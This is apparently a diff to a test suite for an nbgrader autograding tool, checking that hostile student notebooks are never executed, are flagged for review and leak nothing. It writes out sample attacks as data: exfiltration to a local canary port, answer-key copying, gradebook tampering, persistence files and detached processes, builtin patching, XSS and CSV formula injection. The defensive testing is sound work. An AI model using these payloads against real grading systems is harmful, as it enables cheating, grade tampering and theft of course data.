@@ -1,32 +1,45 @@
-"""Hostile and broken submissions in one autograde batch (slow).
+"""Hostile and broken submissions in one batch, through the instructor CLI (slow).
 
-Every bad submission is graded or reported with a reason, the batch never stops, and the
-well-behaved students get exactly the scores they earned.
+Every attack of issue 15 is built from the real released quiz. Grading executes no student
+code, so each attack earns exactly what its plain literal answers earn, or its item is
+flagged for a person; nothing leaks (feedback, exchange, files, network), nothing outside the
+attacker's own submission changes, no process is left, and the instructor is told.
 """
 
 from __future__ import annotations
 
 import copy
 import csv
+import html
+import json
+import os
+import socket
+import subprocess
+import sys
+import threading
 
 import nbformat
 import pytest
 from quiz_helpers import (
+    QUIZ_ROOT,
     cell_by_id,
     clean_env,
     grades,
+    hidden_regions,
     key_answers,
     make_course,
+    nbgrader,
     read_nb,
     submit_file,
     with_answers,
 )
 
-from venous_course_tools.instructor import workflow
+from venous_course_tools.instructor import integrity, workflow
 
 pytestmark = pytest.mark.slow
 QUIZ = "quiz-01-understanding"
 FULL_AUTO = 15.5  # every autograded item of quiz 01 (the teach-back adds 2 by hand)
+POINTS = {"q1": 1, "q2": 1, "q3": 2, "q4": 2.5, "q5": 2, "q6": 2, "q7": 2, "q8": 1, "q9": 2}
 
 PARTIAL = {  # expected score per item in the comment
     "q1": 'q1 = "B"',  # 1
@@ -35,42 +48,176 @@ PARTIAL = {  # expected score per item in the comment
     "q4": 'q4 = {1: "P", 2: "P", 3: "P", 4: "N", 5: "N"}',  # 4 of 5 rows: 2.0 of 2.5
     "q5": 'q5 = {"A", "B", "C"}',  # 2 right - 1 wrong = 1 of 4: 0.5 of 2
     "q6": "q6 = 9",  # 2
-    "q7": "q7 = 0.715",  # within 0.01: 2
+    "q7": "q7 = round(104 / 144, 2)",  # arithmetic is read, not run: 0.72, 2
     "q8": 'q8 = "D"',  # 0
     "q9": 'q9 = {"A", "B", "C", "D"}',  # 3 right - 1 wrong = 2 of 4: 1.0 of 2
 }
 PARTIAL_SCORE = 1 + 0 + 2 + 2.0 + 0.5 + 2 + 2 + 0 + 1.0
 
 
+def _attacks(canary: dict[str, str]) -> dict[str, tuple[dict[str, str], list[str], set[str]]]:
+    """student -> (answer cells to replace, extra cells appended, items that must be flagged).
+
+    Every attack's code, if it ever ran, would leave a trace the tests look for: a file, a
+    connection to the canary port, a changed gradebook or config.
+    """
+    port, trace = canary["port"], canary["trace"]
+    steal = (
+        "import glob, socket, shutil, sqlite3\n"
+        f"open({trace!r} + '-steal', 'w').write(str(glob.glob('../../../**', recursive=True)))\n"
+        f"socket.create_connection(('127.0.0.1', {port})).sendall(b'secrets')\n"
+        "shutil.copy('../../../source/quiz-01-understanding/quiz-01-understanding.ipynb', "
+        "'../../../exchange/venous-course/outbound/quiz-01-understanding/key.ipynb')\n"
+    )
+    gradebook = (
+        "from nbgrader.api import Gradebook\n"
+        "with Gradebook('sqlite:///../../../gradebook.db') as gb:\n"
+        "    for g in gb.find_submission('quiz-01-understanding', 'partial').grades:\n"
+        "        g.manual_score = 0\n"
+        "    for c in gb.find_notebook('quiz-01-understanding', "
+        "'quiz-01-understanding').source_cells:\n"
+        "        c.source = 'assert False'\n"
+        "    gb.db.commit()\n"
+        f"open({trace!r} + '-gradebook', 'w').write('x')\n"
+    )
+    persist = (
+        "import os, subprocess, sys\n"
+        f"open({trace!r} + '-startup.py', 'w').write('print(1)')\n"
+        "open('../../../nbgrader_config.py', 'a').write('\\nc.Autograde.x = 1\\n')\n"
+        f"open({trace!r} + '-evil.pth', 'w').write('import os')\n"
+        "subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(600)'],"
+        " start_new_session=True)\n"
+        f"open({trace!r} + '-persist', 'w').write('x')\n"
+    )
+    return {
+        # five lines that turn every later test cell into `pass`, and no answer given
+        "transformer": (
+            {
+                "q1": "ip = get_ipython()\n"
+                "ip.input_transformers_post.append(lambda lines: ['pass\\n'])\n"
+                f"open({trace!r} + '-transformer', 'w').write('x')\n"
+                "q1 = None"
+            },
+            [],
+            {"q1-answer"},
+        ),
+        # redefined builtins, a str that equals everything, re patched through sys.modules
+        "builtins": (
+            {
+                "q1": "class S(str):\n    __eq__ = lambda self, other: True\nq1 = S('A')",
+                "q4": 'min = lambda *a: 2.5\nq4 = {1: "N", 2: "P", 3: "N", 4: "P", 5: "P"}',
+                "q3": "import sys\nsys.modules['re'].sub = lambda *a: 'c4bsepaspr'\nq3 = 'C1'",
+                "q8": 'q8 = "C"',  # the one honest answer: 1 point
+            },
+            ["abs = lambda x: 0\nq7 = 5.0"],
+            {"q1-answer", "q4-answer", "q3-answer"},
+        ),
+        "gradebook": ({"q2": gradebook + 'q2 = "B"'}, [gradebook], {"q2-answer"}),
+        "exfiltrate": ({"q5": steal + 'q5 = {"A"}'}, [steal], {"q5-answer"}),
+        "persist": ({"q6": persist + "q6 = 9"}, [persist], {"q6-answer"}),
+        # a fake result line on fd 1, as the old worker protocol read it
+        "fakeline": (
+            {
+                "q9": 'print(\'@@autograde-result {"student": "partial", "success": false}\')\n'
+                'q9 = {"A"}'
+            },
+            [],
+            {"q9-answer"},
+        ),
+        # the old loop / flood / raise cases: never run, so only their item is flagged
+        "loop": ({"q1": "while True:\n    pass"}, [], {"q1-answer"}),
+        "sigint": (
+            {
+                "q1": "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
+                "while True:\n    pass"
+            },
+            [],
+            {"q1-answer"},
+        ),
+        "huge_raises": (
+            {"q1": 'print("x" * 1_000_000)\nq1 = "B"', "q3": 'raise RuntimeError("boom")'},
+            ["print('x' * 10_000_000)"],
+            {"q1-answer", "q3-answer"},
+        ),
+    }
+
+
+def _canary_server():
+    """A TCP listener on 127.0.0.1 that counts connections (none may arrive)."""
+    server = socket.socket()
+    server.bind(("127.0.0.1", 0))
+    server.listen()
+    server.settimeout(0.2)
+    hits: list[bytes] = []
+    stop = threading.Event()
+
+    def serve():
+        while not stop.is_set():
+            try:
+                conn, _ = server.accept()
+            except OSError:
+                continue
+            hits.append(conn.recv(100))
+            conn.close()
+
+    threading.Thread(target=serve, daemon=True).start()
+    return server, hits, stop
+
+
+def cli(course, *args, ok=True):
+    proc = subprocess.run(
+        [sys.executable, "-m", "venous_course_tools.instructor", "--course-dir", str(course)]
+        + list(args),
+        text=True,
+        capture_output=True,
+        timeout=600,
+    )
+    if ok:
+        assert proc.returncode == 0, proc.stdout + proc.stderr
+    return proc
+
+
 @pytest.fixture(scope="module")
 def batch(tmp_path_factory):
+    import psutil
+
     with pytest.MonkeyPatch.context() as mp:
         clean_env(mp)
-        course = make_course(tmp_path_factory.mktemp("hostile"), [QUIZ])
-        workflow.release(course, QUIZ, to_exchange=False)
+        tmp = tmp_path_factory.mktemp("hostile")
+        exchange = tmp / "exchange"
+        (exchange / "venous-course" / "outbound" / QUIZ).mkdir(parents=True)
+        mp.setenv("VENOUS_EXCHANGE_ROOT", str(exchange))
+        course = make_course(tmp, [QUIZ])
+        roster = tmp / "roster.csv"
+        roster.write_text(
+            "id,first_name,last_name,email\n"
+            'good,"=HYPERLINK(""http://x.example/""&A1)",Good,g@example.org\n'
+            "partial,+Part,@ial,p@example.org\n"
+        )
+        cli(course, "students", str(roster))
+        cli(course, "release", QUIZ, "--no-exchange")
         blank = read_nb(course / "release" / QUIZ / f"{QUIZ}.ipynb")
-        key = with_answers(blank, key_answers(read_nb(course / "source" / QUIZ / f"{QUIZ}.ipynb")))
+        source_nb = read_nb(course / "source" / QUIZ / f"{QUIZ}.ipynb")
+        key = with_answers(blank, key_answers(source_nb))
 
+        server, hits, stop = _canary_server()
+        canary = {"port": str(server.getsockname()[1]), "trace": str(tmp / "trace")}
+        attacks = _attacks(canary)
         good = copy.deepcopy(key)
         cell_by_id(good, "q10-teachback").source = "A high reading can mean stiff arteries ..."
         submit_file(course, "good", QUIZ, good)
         submit_file(course, "partial", QUIZ, with_answers(blank, PARTIAL))
-        submit_file(course, "loop", QUIZ, with_answers(key, {"q1": "while True:\n    pass"}))
-        submit_file(
-            course,
-            "sigint",
-            QUIZ,
-            with_answers(
-                key,
-                {
-                    "q1": (
-                        "import signal\n"
-                        "signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
-                        "while True:\n    pass"
-                    )
-                },
-            ),
+        for student, (answers, extra, _flagged) in attacks.items():
+            nb = with_answers(blank, answers)
+            nb.cells += [nbformat.v4.new_code_cell(code) for code in extra]
+            submit_file(course, student, QUIZ, nb)
+        xss = copy.deepcopy(key)
+        cell_by_id(
+            xss, "q10-teachback"
+        ).source = (
+            '<script>alert("x")</script><img src=x onerror=alert(1)> [a](javascript:alert(2))'
         )
+        submit_file(course, "xss", QUIZ, xss)
         deleted = copy.deepcopy(key)
         deleted.cells.remove(cell_by_id(deleted, "q2-test"))
         submit_file(course, "deleted", QUIZ, deleted)
@@ -78,81 +225,230 @@ def batch(tmp_path_factory):
         for cell in cheat.cells:
             if cell.metadata.get("nbgrader", {}).get("grade_id", "").endswith("-test"):
                 cell.source = "assert True"
+        cell_by_id(cheat, "q1-test").metadata["nbgrader"]["points"] = 100
         submit_file(course, "asserttrue", QUIZ, with_answers(cheat, {"q1": 'q1 = "A"'}))
         stripped = copy.deepcopy(key)
         for cell in stripped.cells:
             cell.metadata.pop("nbgrader", None)
         submit_file(course, "stripped", QUIZ, stripped)
         submit_file(course, "badjson", QUIZ, nbformat.writes(key)[:-200] + "{{{ not json")
-        submit_file(
-            course,
-            "huge_raises",
-            QUIZ,
-            with_answers(
-                key, {"q1": 'print("x" * 1_000_000)\nq1 = "B"', "q3": 'raise RuntimeError("boom")'}
-            ),
-        )
+        submit_file(course, "copiedkey", QUIZ, source_nb)  # what a followed symlink delivers
         (course / "submitted" / "missing" / QUIZ).mkdir(parents=True)
-        (course / "submitted" / "missing" / QUIZ / "notes.txt").write_text("forgot the notebook")
-
-        messages: list[str] = []
-        rows = workflow.autograde(
-            course, QUIZ, workers=2, cell_timeout=3, submission_timeout=45, progress=messages.append
+        (course / "submitted" / "missing" / QUIZ / "notes.txt").write_text("forgot it")
+        # file system attacks: links to the answer key, a huge file, a newline in a name
+        (course / "submitted" / "linkdir").mkdir()
+        (course / "submitted" / "linkdir" / QUIZ).symlink_to(course / "source" / QUIZ)
+        (course / "submitted" / "linkfile" / QUIZ).mkdir(parents=True)
+        (course / "submitted" / "linkfile" / QUIZ / f"{QUIZ}.ipynb").symlink_to(
+            course / "source" / QUIZ / f"{QUIZ}.ipynb"
         )
-        yield course, {r.student_id: r for r in rows}, messages
+        huge = copy.deepcopy(key)
+        huge.cells.append(nbformat.v4.new_markdown_cell("x" * 6_000_000))
+        submit_file(course, "huge", QUIZ, huge)
+        submit_file(course, "eve\ngood", QUIZ, with_answers(blank, {"q1": 'q1 = "A"'}))
+
+        before_children = {p.pid for p in psutil.Process().children(recursive=True)}
+        stored_before = integrity.fingerprint(course, QUIZ, workflow._db_url(course))
+        out = cli(course, "autograde", QUIZ)
+        cli(course, "feedback", QUIZ)
+        stop.set()
+        server.close()
+        after_children = {p.pid for p in psutil.Process().children(recursive=True)}
+        rows = workflow.read_report(workflow.report_paths(course, QUIZ)[0])
+        yield {
+            "course": course,
+            "rows": rows,
+            "out": out.stdout + out.stderr,
+            "attacks": attacks,
+            "canary": canary,
+            "hits": hits,
+            "tmp": tmp,
+            "exchange": exchange,
+            "new_processes": after_children - before_children,
+            "stored_before": stored_before,
+            "source_nb": source_nb,
+        }
 
 
 def auto_score(course, student):
     return sum(v or 0 for k, v in grades(course, QUIZ, student).items() if k.endswith("-test"))
 
 
+def needs_manual(course, student) -> dict[str, bool]:
+    from nbgrader.api import Gradebook
+
+    with Gradebook("sqlite:///" + str(course / "gradebook.db")) as gb:
+        sub = gb.find_submission_notebook(QUIZ, QUIZ, student)
+        return {g.name: bool(g.needs_manual_grade) for g in sub.grades}
+
+
 def test_every_submission_is_reported(batch):
-    course, rows, messages = batch
-    print("\n".join(messages))
-    assert len(rows) == 10
-    assert any(m.startswith("[10/10]") for m in messages)
-    with (course / "reports" / f"{QUIZ}-autograde.csv").open() as fh:
-        assert {r["student_id"] for r in csv.DictReader(fh)} == set(rows)
-    assert "need attention" in (course / "reports" / f"{QUIZ}-autograde.md").read_text()
+    rows, out = batch["rows"], batch["out"]
+    expected = {"good", "partial", "xss", "deleted", "asserttrue", "stripped", "badjson"}
+    expected |= {"copiedkey", "missing", "linkdir", "linkfile", "huge"} | set(batch["attacks"])
+    assert set(rows) == expected
+    assert f"[{len(expected)}/{len(expected)}]" in out
+    report = (batch["course"] / "reports" / f"{QUIZ}-autograde.md").read_text()
+    assert "need attention" in report
+    # the folder whose name holds a newline is one refused folder, never two students
+    assert "eve\\ngood" in out and "not a valid student id" in report
+    assert "eve" not in rows
 
 
-def test_well_behaved_students_get_exact_scores(batch):
-    course, rows, _ = batch
+def test_honest_students_get_exact_scores(batch):
+    course, rows = batch["course"], batch["rows"]
     assert rows["good"].status == "needs manual grading" and rows["good"].reason == ""
     assert auto_score(course, "good") == FULL_AUTO
     assert rows["partial"].status == "graded"  # an empty teach-back scores 0 by itself
     assert auto_score(course, "partial") == pytest.approx(PARTIAL_SCORE)
 
 
-def test_failures_are_failures_not_zeros(batch):
-    _, rows, _ = batch
-    assert rows["sigint"].status == "failed" and "timeout" in rows["sigint"].reason
-    assert rows["badjson"].status == "failed" and "invalid notebook" in rows["badjson"].reason
-    assert rows["missing"].status == "failed" and "missing notebook" in rows["missing"].reason
+@pytest.mark.parametrize(
+    "student",
+    [
+        "transformer",
+        "builtins",
+        "gradebook",
+        "exfiltrate",
+        "persist",
+        "fakeline",
+        "loop",
+        "sigint",
+        "huge_raises",
+    ],
+)
+def test_attack_earns_only_its_literal_answers_and_is_flagged(batch, student):
+    course, rows = batch["course"], batch["rows"]
+    answers, _extra, flagged = batch["attacks"][student]
+    given = grades(course, QUIZ, student)
+    # the literal-only score: an honest answer scores, a flagged or missing one scores 0
+    honest = {"builtins": {"q8": 1}}.get(student, {})
+    expected = {f"{q}-test": float(honest.get(q, 0)) for q in POINTS}
+    assert {k: v for k, v in given.items() if k.endswith("-test")} == expected
+    row = rows[student]
+    assert row.status == "needs manual grading" and row.reason.startswith("review: ")
+    noted = {n.split(":")[0] for n in row.notes}
+    assert noted == flagged
+    manual = needs_manual(course, student)
+    for item in flagged:
+        assert manual[item.replace("-answer", "-test")], item
 
 
-def test_loop_huge_output_and_raising_cell_cost_only_their_item(batch):
-    course, rows, _ = batch
-    assert rows["loop"].status != "failed"
-    assert any("time limit" in n for n in rows["loop"].notes)
-    assert auto_score(course, "loop") == FULL_AUTO - 1
-    # a 1 MB print in one answer and an exception in another: only the raising item is lost
-    assert rows["huge_raises"].status != "failed"
-    assert auto_score(course, "huge_raises") == FULL_AUTO - 2
+def test_nothing_ran_nothing_leaked_nothing_persisted(batch):
+    tmp, course = batch["tmp"], batch["course"]
+    traces = sorted(p.name for p in tmp.iterdir() if p.name.startswith("trace"))
+    assert traces == []  # no attack wrote its trace file
+    assert batch["hits"] == []  # no connection reached 127.0.0.1
+    outbound = batch["exchange"] / "venous-course" / "outbound" / QUIZ
+    assert list(outbound.iterdir()) == []
+    assert batch["new_processes"] == set()
+    # gradebook test cells, config and source are what was released
+    assert integrity.differences(course, QUIZ, workflow._db_url(course)) == []
+    now = integrity.fingerprint(course, QUIZ, workflow._db_url(course))
+    assert now == batch["stored_before"]
+    assert "c.Autograde.x" not in (course / "nbgrader_config.py").read_text()
+
+
+def test_feedback_carries_no_key_and_no_student_html(batch):
+    course, source_nb = batch["course"], batch["source_nb"]
+    secrets = [s for s in hidden_regions(source_nb) if len(s) >= 12]
+    for page_path in (course / "feedback").rglob("*.html"):
+        text = page_path.read_text(encoding="utf-8")
+        plain = html.unescape(text)
+        assert [s for s in secrets if s in plain] == [], page_path
+        assert "@@autograde-result" not in plain or page_path.parts[-3] == "fakeline"
+    xss = (course / "feedback" / "xss" / QUIZ / f"{QUIZ}.html").read_text(encoding="utf-8")
+    assert "<script>alert" not in xss and "<img src=x" not in xss
+    assert 'href="javascript' not in xss
+    assert "&lt;script&gt;alert" in xss  # shown to the student as the text they typed
 
 
 def test_tampered_test_cells_are_restored_and_flagged(batch):
-    course, rows, _ = batch
+    course, rows = batch["course"], batch["rows"]
     assert rows["deleted"].status == "needs manual grading"
     assert "test cell deleted" in rows["deleted"].reason
-    assert auto_score(course, "deleted") == FULL_AUTO  # the restored cell ran the hidden test
+    assert auto_score(course, "deleted") == FULL_AUTO  # the restored test graded the answer
     assert rows["asserttrue"].status == "needs manual grading"
     assert "test cell altered" in rows["asserttrue"].reason
-    assert auto_score(course, "asserttrue") == 0  # 'assert True' earned nothing
+    assert any("points 1 -> 100" in n for n in rows["asserttrue"].notes)
+    assert auto_score(course, "asserttrue") == 0  # 'assert True' and 100 points earn nothing
+    assert rows["copiedkey"].status == "needs manual grading"
+    assert auto_score(course, "copiedkey") == 0
+    assert any("solution markers" in n for n in rows["copiedkey"].notes)
 
 
-def test_stripped_metadata_is_reported(batch):
-    _, rows, _ = batch
+def test_broken_and_unsafe_files_are_failures_not_zeros(batch):
+    rows = batch["rows"]
+    assert rows["badjson"].status == "failed" and "invalid notebook" in rows["badjson"].reason
+    assert rows["missing"].status == "failed" and "missing notebook" in rows["missing"].reason
+    assert rows["huge"].status == "failed" and "MB" in rows["huge"].reason
+    for student in ("linkdir", "linkfile"):
+        assert rows[student].status == "failed" and "symbolic link" in rows[student].reason
     row = rows["stripped"]
     assert row.status in {"failed", "needs manual grading"}
     assert "metadata stripped" in row.reason
+
+
+def test_exported_csv_cannot_hold_formulas(batch):
+    course = batch["course"]
+    cli(course, "export", QUIZ)
+    for name in ("nbgrader-grades.csv", f"{QUIZ}-lms.csv"):
+        with (course / "grades" / name).open(newline="", encoding="utf-8") as fh:
+            cells = [c for row in csv.reader(fh) for c in row]
+        assert not [c for c in cells if c[:1] in ("=", "+", "@") or c.startswith("-")], name
+    with (course / "grades" / "nbgrader-grades.csv").open(newline="") as fh:
+        good = next(r for r in csv.DictReader(fh) if r["student_id"] == "good")
+    assert good["first_name"].startswith("'=HYPERLINK")
+
+
+def test_plain_nbgrader_autograde_takes_the_same_safe_path(batch, tmp_path):
+    """`nbgrader autograde` (and formgrader, which calls the same app) scores the same."""
+    course = batch["course"]
+    for student in ("builtins", "partial"):
+        nbgrader(["autograde", QUIZ, "--student", student, "--force"], cwd=course)
+    assert auto_score(course, "partial") == pytest.approx(PARTIAL_SCORE)
+    assert {k: v for k, v in grades(course, QUIZ, "builtins").items() if k.endswith("-test")} == {
+        f"{q}-test": float(q == "q8") for q in POINTS
+    }
+    assert needs_manual(course, "builtins")["q1-test"]
+    meta = read_nb(course / "autograded" / "builtins" / QUIZ / f"{QUIZ}.ipynb").metadata
+    assert set(meta["venous_course_review"]) >= {"q1-answer", "q3-answer", "q4-answer"}
+
+
+def test_export_is_refused_when_the_key_changes(batch, tmp_path):
+    course = batch["course"]
+    path = course / "source" / QUIZ / f"{QUIZ}.ipynb"
+    original = path.read_bytes()
+    try:
+        nb = json.loads(original)
+        nb["cells"][0]["source"] = "changed"
+        path.write_text(json.dumps(nb))
+        proc = cli(course, "export", QUIZ, ok=False)
+        assert proc.returncode == 1
+        assert "does not match what was released" in proc.stderr
+        assert "Traceback" not in proc.stderr
+    finally:
+        path.write_bytes(original)
+    assert QUIZ_ROOT.exists() and os.path.exists(path)
+
+
+def test_formgrader_renders_student_html_as_text(batch, monkeypatch):
+    """Formgrader builds its HTMLExporter from the course config: the teach-back is escaped."""
+    from nbconvert.exporters import HTMLExporter
+    from nbgrader.apps.nbgraderapp import NbGraderApp
+    from nbgrader.server_extensions.formgrader import handlers
+
+    course = batch["course"]
+    monkeypatch.chdir(course)
+    app = NbGraderApp()
+    app.load_config_file()  # what FormgradeExtension.load_config does
+    exporter = HTMLExporter(config=app.config)
+    exporter.template_name = "formgrade"  # as FormgradeExtension.build_extra_config sets it
+    exporter.extra_template_basedirs = [handlers.template_path]
+    render = exporter.environment.filters["markdown2html"]
+    answer = cell_by_id(
+        read_nb(course / "autograded" / "xss" / QUIZ / f"{QUIZ}.ipynb"), "q10-teachback"
+    ).source
+    shown = render(answer)
+    assert "<script>" not in shown and "<img" not in shown and 'href="javascript' not in shown
+    assert "&lt;script&gt;" in shown
